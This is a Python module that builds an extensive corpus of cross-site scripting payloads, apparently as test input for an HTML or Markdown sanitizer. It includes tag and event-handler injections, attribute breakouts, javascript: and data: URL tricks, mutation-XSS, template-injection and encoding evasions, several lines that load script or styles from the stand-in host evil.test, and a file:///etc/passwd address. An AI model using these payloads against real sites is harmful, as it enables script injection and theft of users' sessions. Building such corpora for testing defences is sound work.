"""What people write to make other people's browsers run it: every well-known class, in several spellings each.

All of them call `alert`, `confirm`, `prompt` or `print`, or ask `evil.test` for something.
"""

CALLS = ("alert(1)", "confirm`1`", "prompt(document.domain)", "top['al'+'ert'](1)", "window['print']()")

_TAGS = (
    "<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script/x>{c}</script>", "<script src=//evil.test/x.js></script>",
    "<script\n>{c}</script\n>", "<<script>{c}//<</script>", "<script>{c}", "<script type=module>{c}</script>",
    "<img src=x onerror={c}>", '<img src="x" onerror="{c}">', "<img/src=x/onerror={c}>", "<IMG SRC=x OnErRoR={c}>",
    "<img src=x:x onerror={c}//", "<img srcset=x onerror={c}>", "<image src=x onerror={c}>",
    "<svg onload={c}>", "<svg/onload={c}>", "<svg><script>{c}</script></svg>", "<svg><g onload={c}></g></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>", "<svg><set onbegin={c} attributename=x>",
    "<svg><a xlink:href=javascript:{c}><text y=20>x</text></a></svg>", "<svg><a href=javascript:{c}><circle r=9></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={c}/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{c}</script>'></foreignObject></svg>",
    "<body onload={c}>", "<body onpageshow={c}>", "<body onhashchange={c}><a href=#x>x</a>", "<html onmouseover={c}>",
    "<iframe src=javascript:{c}>", "<iframe srcdoc='<script>{c}</script>'>", "<iframe onload={c}>",
    "<iframe src='data:text/html,<script>{c}</script>'></iframe>", "<frameset onload={c}>",
    "<object data=javascript:{c}>", "<object data='data:text/html,<script>{c}</script>'>", "<embed src=javascript:{c}>",
    "<embed code=//evil.test/x.swf allowscriptaccess=always>", "<applet code=x codebase=//evil.test onerror={c}>",
    "<video><source onerror={c}></video>", "<video src=x onerror={c}>", "<video poster=javascript:{c}>",
    "<audio src=x onerror={c}>", "<audio autoplay onloadstart={c} src=x>", "<track onerror={c} src=x default>",
    "<input autofocus onfocus={c}>", "<input type=image src=x onerror={c}>", "<input onblur={c} autofocus><input autofocus>",
    "<textarea autofocus onfocus={c}>", "<select autofocus onfocus={c}>", "<keygen autofocus onfocus={c}>",
    "<button autofocus onfocus={c}>x</button>", "<button formaction=javascript:{c}>x</button>",
    "<form action=javascript:{c}><input type=submit></form>", "<form><button formaction=javascript:{c}>x</button></form>",
    "<details open ontoggle={c}>", "<marquee onstart={c}>", "<meter onmouseover={c}>0</meter>", "<dialog open oncancel={c}>",
    "<div popover onbeforetoggle={c}>x</div>", "<div onpointerrawupdate={c}>x</div>", "<div contenteditable autofocus onfocus={c}>",
    "<style onload={c}></style>", "<style>@import'//evil.test/x.css';</style>", "<style>*{{background:url(//evil.test/x)}}</style>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={c}>x</b>",
    "<link rel=stylesheet href=//evil.test/x.css onload={c}>", "<link rel=import href=//evil.test onerror={c}>",
    "<link rel=prefetch href=//evil.test/p>", "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;javascript:{c}'>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>", "<table background=javascript:{c}>", "<td background=//evil.test/x>",
    "<bgsound src=javascript:{c}>", "<layer src=//evil.test>", "<isindex action=javascript:{c} type=image>",
    "<math><maction actiontype=statusline xlink:href=javascript:{c}>x</maction></math>", "<math href=javascript:{c}>x</math>",
    "<x onclick={c}>x</x>", "<custom-element onmouseenter={c} style=display:block>x</custom-element>",
    "<template shadowrootmode=open><script>{c}</script></template>", "<slot onslotchange={c}></slot>",
    "<a onmouseover={c}>x</a>", "<a href=javascript:{c}>x</a>", "<a href=# ping=//evil.test/p>x</a>", "<area href=javascript:{c}>",
    "<a href=x target=_blank rel=opener onauxclick={c}>x</a>", "<p style=background:url(//evil.test/x)>x</p>",
    "<div style=width:expression({c})>x</div>", "<div style=-moz-binding:url(//evil.test/x.xml#x)>x</div>",
    "<xml onreadystatechange={c}>", "<?xml-stylesheet href=javascript:{c}?>", "<!--[if IE]><script>{c}</script><![endif]-->",
    "<!--<img src=\"--><img src=x onerror={c}//\">", "<![CDATA[<script>{c}</script>]]>", "</title><script>{c}</script>",
    "</textarea><script>{c}</script>", "</style><script>{c}</script>", "</script><script>{c}</script>", "</div></div><svg onload={c}>",
)  # fmt: skip
_BREAKS = (
    '" onmouseover="{c}', "' onmouseover='{c}", '" autofocus onfocus="{c}" x="', "'><svg onload={c}>", '"><script>{c}</script>',
    '"/><img src=x onerror={c}>', "`onmouseover={c}`", "x' style='animation-name:x' onanimationstart='{c}", "-->\"><svg onload={c}>",
    "';{c};//", '";{c};//', "\\';{c};//", "`-{c}-`", "${{{c}}}", "*/{c}/*", "\n{c}//", "</{c}>", "]]><script>{c}</script>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "\tjavascript:{c}", "java\tscript:{c}", "java\nscript:{c}", "java\rscript:{c}",
    "\x01javascript:{c}", "javascript&colon;{c}", "javascript&#58;{c}", "&#106;avascript:{c}", "&#x6A;avascript:{c}", "javascript:&#47;&#47;%0a{c}",
    "javascript://%0a{c}", "javascript:/*x*/{c}", "javascript://evil.test/%0d%0a{c}", "java%0ascript:{c}", "javascript%3A{c}", "\u200bjavascript:{c}",
    "javascript\u200b:{c}", "jav\u0000ascript:{c}".replace("\x00", "\ufffd"), "ｊavascript:{c}", "javascript：{c}", "vbscript:msgbox({c})", "livescript:{c}",
    "mocha:{c}", "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>", "data:application/javascript,{c}", "data:,{c}",
    "blob:https://evil.test/{c}", "filesystem:https://evil.test/x", "view-source:javascript:{c}", "feed:javascript:{c}", "jar:javascript:{c}!/x",
    "about:blank#{c}", "file:///etc/passwd", "intent://evil.test#Intent;scheme=javascript;end", "ms-its:javascript:{c}", "wyciwyg://{c}",
    "//evil.test/x", "\\\\evil.test\\x", "/\\evil.test/x", "https:javascript:{c}", "http://javascript:{c}@evil.test:1", "?javascript:{c}", "#{c}",
)  # fmt: skip
_MARKS = (
    "[x]({a})", "![x]({a})", "[x](<{a}>)", '[x]({a} "t")', "<{a}>", "[x][1]\n\n[1]: {a}", "[![x]({a})]({a})", "[**x**]({a})", "[x] ({a})", "[x]({a}",
)  # fmt: skip
_MARKDOWN = (
    "[x](https://example.com/\" onmouseover=\"{c})", "[x](https://example.com/' onclick='{c})", '![" onerror="{c}](x)', "![x](x\" onerror=\"{c})",
    "[\"><img src=x onerror={c}>](https://example.com)", "**<img src=x onerror={c}>**", "*<svg onload={c}>*", "`<img src=x onerror={c}>`",
    "```\n<script>{c}</script>\n```", "```html\n<img src=x onerror={c}>", "- <img src=x onerror={c}>", "1. <svg onload={c}>", "> <svg onload={c}>",
    "# <img src=x onerror={c}>", "|<img src=x onerror={c}>|\n|-|", "https://example.com/<svg/onload={c}>", "https://example.com/\"onclick=\"{c}",
    "[x](https://example.com/)<script>{c}</script>", "\\<script>{c}\\</script>", "**[x](javascript:{c})**", "[x](https://example.com\njavascript:{c})",
    "[a](https://example.com/(javascript:{c}))", "[](javascript:{c})", "[x](mailto:a@example.com?body=<script>{c}</script>)", "[x](tel:+1;{c})",
    "&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}&#60;/script&#62;", "<script>{c}</script>", "~~<svg onload={c}>~~", "[^1]: <svg onload={c}>",
)  # fmt: skip
_MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={c}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={c}>\">", "<noscript><p title=\"</noscript><img src=x onerror={c}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>", "<math><annotation-xml encoding=text/html><svg onload={c}>",
    "<svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror={c}&gt;", "<listing>&lt;img onerror={c} src=x&gt;</listing>",
    "<svg><style>&lt;img src=x onerror={c}&gt;</style></svg>", "<p><style><!--</style><img src=x onerror={c}>--></style>",
    "<xmp><p title=\"</xmp><svg/onload={c}>\">", "<select><template><style><!--</style><a rel=\"--></style><img id=x onerror={c} src=x>\">",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror={c}>", "<iframe><p id=\"</iframe><img src=x onerror={c}>\">",
    "<plaintext><svg onload={c}>", "<a href=\"\x1Fjavascript:{c}\">x</a>", "<svg><title><a id=\"</title><img src=x onerror={c}>\">",
)  # fmt: skip
_TEMPLATES = (
    "{{{{constructor.constructor('{c}')()}}}}", "{{{{$on.constructor('{c}')()}}}}", "${{{c}}}", "<%= {c} %>", "#{{{c}}}", "[[${{{c}}}]]", "{{% raw %}}{c}{{% endraw %}}",
    "{{{{7*7}}}}", "{{{{ said | default: '<svg onload={c}>' }}}}", "{{{{{c}}}}}", "@({c})", "*{{{c}}}", "~{{{c}}}", "<div ng-app ng-csp>{{{{{c}}}}}</div>",
    "<div v-html=\"'<img src=x onerror={c}>'\"></div>", "<div x-data x-init={c}></div>", "<p hx-on:load={c}>", "<div data-bind=\"html:'<svg onload={c}>'\">",
)  # fmt: skip
_UNICODE = (
    "＜script＞{c}＜/script＞", "\u202e<script>{c}</script>", "\ufeff<script>{c}</script>", "\u2028<script>{c}</script>", "<scr\u0130pt>{c}</scr\u0130pt>",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "\\x3cscript\\x3e{c}", "%3Cscript%3E{c}%3C/script%3E", "%253Cscript%253E{c}", "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "<\u200bscript>{c}</script>", "<img src=x on\u200derror={c}>", "\ud83d\ude00<svg onload={c}>".encode("utf-16", "surrogatepass").decode("utf-16"),
    "<ſcript>{c}</ſcript>", "‹script›{c}‹/script›", "<img src=x onerror=\u0061lert(1)>", "<img src=x onerror=&#97;lert(1)>", "<svg onload=\x0c{c}>", "ʺ><svg onload={c}>",
)  # fmt: skip
_CLOBBERING = (
    "<a id=Branchline>x</a><a id=Branchline name=on href=javascript:alert(1)>", "<form id=branchline-kinds><input name=open></form>", "<img name=alert>",
    "<form name=document><input name=domain>", "<iframe name=top srcdoc='<a id=x>'></iframe>", "__proto__[x]=<svg onload=alert(1)>", "constructor.prototype.innerHTML",
    '{"__proto__":{"innerHTML":"<svg onload=alert(1)>"}}', "<input name=attributes><input name=children>",
)  # fmt: skip


def _each() -> list[str]:
    made: list[str] = []
    plain = [*_TAGS, *_BREAKS, *_MARKDOWN, *_MUTATING, *_TEMPLATES, *_UNICODE]
    for index, form in enumerate(plain):
        made.append(form.format(c=CALLS[index % len(CALLS)]))
    for index, form in enumerate(_ADDRESSES):
        address = form.format(c=CALLS[index % len(CALLS)])
        made.append(address)
        made.append(_MARKS[index % len(_MARKS)].format(a=address))
        made.append(_MARKS[(index + 3) % len(_MARKS)].format(a=address))
    return [*dict.fromkeys([*made, *_CLOBBERING])]


PAYLOADS = _each()
ADDRESSES = [form.format(c="alert(1)") for form in _ADDRESSES]
